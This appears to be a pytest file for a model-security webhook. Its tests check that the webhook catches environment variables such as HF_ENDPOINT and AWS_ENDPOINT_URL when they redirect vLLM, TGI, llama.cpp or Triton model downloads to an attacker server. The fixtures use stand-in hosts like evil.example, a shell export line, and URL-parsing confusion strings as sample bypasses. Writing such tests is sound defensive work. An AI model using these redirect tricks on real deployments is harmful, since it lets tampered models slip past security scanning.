"""Red-team bypass: the environment sends a serving program's download to another server.

``HF_ENDPOINT=https://evil.example`` beside ``vllm serve meta-llama/x`` downloads the model
from a server the workload chose while the webhook judged the Hub's scan of that id; the
same with ``AWS_ENDPOINT_URL`` and ``s3://bucket/key``. Each test failed before the fix
(the references came out with no endpoint, so the Hub's or the bucket's source judged them).
"""

from __future__ import annotations

from typing import Any

import pytest
from reference_helpers import extraction, pod

from modelsec.references import Extraction

LLAMA_IMAGE = "ghcr.io/ggml-org/llama.cpp:server"


def container(command: list[str], env: dict[str, str] | None = None, **more: Any) -> dict[str, Any]:
    out: dict[str, Any] = {"name": "c", "image": more.pop("image", "python"), "command": command, **more}
    if env:
        out["env"] = [{"name": k, "value": v} for k, v in env.items()]
    return out


def found(command: list[str], env: dict[str, str] | None = None, **more: Any) -> Extraction:
    return extraction("Pod", pod(container(command, env, **more)))


def endpoints(result: Extraction) -> list[tuple[str, str | None, str | None]]:
    return [(str(r.ref), r.endpoint, r.redirected_by) for r in result.references]


@pytest.mark.parametrize(
    "command, variable",
    [
        (["vllm", "serve", "meta-llama/x"], "HF_ENDPOINT"),
        (["text-generation-launcher", "--model-id", "meta-llama/x"], "HF_ENDPOINT"),
        (["llama-server", "-hf", "meta-llama/x"], "HF_ENDPOINT"),
        (["llama-server", "-hf", "meta-llama/x"], "MODEL_ENDPOINT"),
    ],
)
def test_hub_endpoint_variable_redirects_the_hub_download(command: list[str], variable: str) -> None:
    result = found(command, {variable: "https://evil.example"})
    assert endpoints(result) == [("hf://meta-llama/x", "https://evil.example", variable)]


@pytest.mark.parametrize("value", ["https://huggingface.co", "https://huggingface.co/", "HTTPS://HF.CO", ""])
def test_the_hub_itself_is_no_redirect(value: str) -> None:
    result = found(["vllm", "serve", "meta-llama/x"], {"HF_ENDPOINT": value})
    assert endpoints(result) == [("hf://meta-llama/x", None, None)]


def test_a_redirect_set_in_the_shell_script_counts() -> None:
    script = "export HF_ENDPOINT=https://evil.example; exec vllm serve meta-llama/x"
    assert endpoints(found(["sh", "-c", script])) == [
        ("hf://meta-llama/x", "https://evil.example", "HF_ENDPOINT")
    ]


def test_a_redirect_from_a_secret_is_unresolved() -> None:
    env = [{"name": "HF_ENDPOINT", "valueFrom": {"secretKeyRef": {"name": "mirror", "key": "url"}}}]
    result = extraction(
        "Pod", pod({"name": "c", "image": "python", "command": ["vllm", "serve", "org/m"], "env": env})
    )
    assert result.references == ()
    (unresolved,) = result.unresolved
    assert "HF_ENDPOINT decides which server" in unresolved.why and "Secret mirror" in unresolved.why


def test_a_redirect_from_an_unread_configmap_names_the_configmap() -> None:
    env_from = [{"configMapRef": {"name": "settings"}}]
    result = extraction(
        "Pod",
        pod({"name": "c", "image": "python", "command": ["vllm", "serve", "org/m"], "envFrom": env_from}),
    )
    assert result.references == ()
    assert result.configmaps == {"settings"}


@pytest.mark.parametrize("value", ["true", "True", "TRUE"])
def test_vllm_modelscope_switch_is_unresolved(value: str) -> None:
    result = found(["vllm", "serve", "Qwen/Qwen3-8B"], {"VLLM_USE_MODELSCOPE": value})
    assert result.references == ()
    assert "ModelScope" in result.unresolved[0].why


@pytest.mark.parametrize("value", ["false", "0", "1", ""])
def test_vllm_modelscope_switch_off(value: str) -> None:
    # vLLM reads the switch as `.lower() == "true"`: "1" leaves the Hub in place
    assert endpoints(found(["vllm", "serve", "Qwen/Qwen3-8B"], {"VLLM_USE_MODELSCOPE": value})) == [
        ("hf://Qwen/Qwen3-8B", None, None)
    ]


@pytest.mark.parametrize(
    "variable", ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "RUNAI_STREAMER_S3_ENDPOINT"]
)
def test_s3_endpoint_variables_redirect_vllm(variable: str) -> None:
    result = found(["vllm", "serve", "s3://models/llama"], {variable: "http://evil:9000"})
    assert endpoints(result) == [("s3://models/llama", "http://evil:9000", variable)]


def test_triton_repository_without_an_endpoint_reads_the_sdk_variables() -> None:
    result = found(
        ["tritonserver", "--model-repository=s3://models/repo"], {"AWS_ENDPOINT_URL": "http://evil:9000"}
    )
    assert endpoints(result) == [("s3://models/repo", "http://evil:9000", "AWS_ENDPOINT_URL")]


def test_triton_repository_naming_its_endpoint_is_not_redirected() -> None:
    result = found(
        ["tritonserver", "--model-repository=s3://http://minio:9000/models/repo"],
        {"AWS_ENDPOINT_URL": "http://evil:9000"},
    )
    assert endpoints(result) == [("s3://models/repo", "http://minio:9000", None)]


def test_variables_that_disagree_are_unresolved() -> None:
    env = {"AWS_ENDPOINT_URL": "http://minio:9000", "RUNAI_STREAMER_S3_ENDPOINT": "http://evil:9000"}
    result = found(["vllm", "serve", "s3://models/llama"], env)
    assert result.references == ()
    assert "name different servers" in result.unresolved[0].why


def test_variables_that_agree_are_one_endpoint() -> None:
    env = {"AWS_ENDPOINT_URL": "http://minio:9000", "RUNAI_STREAMER_S3_ENDPOINT": "http://MINIO:9000/"}
    assert endpoints(found(["vllm", "serve", "s3://models/llama"], env)) == [
        ("s3://models/llama", "http://minio:9000", "AWS_ENDPOINT_URL")
    ]


def test_local_paths_and_hub_urls_are_not_redirected() -> None:
    # A path is read from disk; a --model-url names its server itself.
    env = {"HF_ENDPOINT": "https://evil.example", "MODEL_ENDPOINT": "https://evil.example"}
    url = f"https://huggingface.co/org/m/resolve/{'0' * 40}/m.gguf"
    result = extraction(
        "Pod",
        pod(
            container(["vllm", "serve", "/models/m"], env),
            container(["llama-server", "--model-url", url], env, name="l"),
        ),
    )
    assert [(str(r.ref.scheme), r.endpoint) for r in result.references] == [("file", None), ("hf", None)]


def test_a_variable_of_another_container_does_not_apply() -> None:
    result = extraction(
        "Pod",
        pod(
            container(["vllm", "serve", "org/m"]),
            container(["sleep", "1"], {"HF_ENDPOINT": "https://evil.example"}, name="side"),
        ),
    )
    assert endpoints(result) == [("hf://org/m", None, None)]


def test_the_image_entrypoint_reads_the_container_environment() -> None:
    obj = pod(
        {
            "name": "c",
            "image": "vllm/vllm-openai:v0.9.2",
            "args": ["org/m"],
            "env": [{"name": "HF_ENDPOINT", "value": "https://evil.example"}],
        }
    )
    assert endpoints(extraction("Pod", obj)) == [("hf://org/m", "https://evil.example", "HF_ENDPOINT")]


def test_llama_cpp_image_entrypoint_reads_model_endpoint() -> None:
    obj = pod(
        {
            "name": "c",
            "image": LLAMA_IMAGE,
            "args": ["-hf", "org/m"],
            "env": [{"name": "MODEL_ENDPOINT", "value": "https://evil.example"}],
        }
    )
    assert endpoints(extraction("Pod", obj)) == [("hf://org/m", "https://evil.example", "MODEL_ENDPOINT")]


@pytest.mark.parametrize("model", ["meta-llama/x", "s3://models/llama", "/models/x"])
def test_vllm_model_redirect_table_is_unresolved(model: str) -> None:
    # vLLM maps model names to other paths through this file before downloading anything
    result = found(["vllm", "serve", model], {"VLLM_MODEL_REDIRECT_PATH": "/etc/redirects.json"})
    assert result.references == ()
    assert "VLLM_MODEL_REDIRECT_PATH" in result.unresolved[0].why


def test_tgi_weights_cache_override_is_unresolved() -> None:
    # TGI hands its shards that directory instead of the model it names
    launcher = ["text-generation-launcher", "--model-id", "meta-llama/x"]
    by_env = found(launcher, {"WEIGHTS_CACHE_OVERRIDE": "/data/weights"})
    by_option = found([*launcher, "--weights-cache-override", "/data/weights"])
    for result in (by_env, by_option):
        assert result.references == ()
        assert "TGI load" in result.unresolved[0].why


@pytest.mark.parametrize(
    "value",
    [
        "https://evil.example\\@huggingface.co",  # urlsplit: the Hub; requests: evil.example
        "https://evil.example@huggingface.co",
        "http://huggingface.co",
        "https://huggingface.co:8080",
        "https://huggingface.co/mirror",
        "https://huggingface.co?x=1",
        "https://huggingface.co%2Eevil.example",
    ],
)
def test_only_a_plain_hub_url_is_the_hub(value: str) -> None:
    result = found(["vllm", "serve", "meta-llama/x"], {"HF_ENDPOINT": value})
    assert [r.redirected_by for r in result.references] == ["HF_ENDPOINT"] or result.unresolved
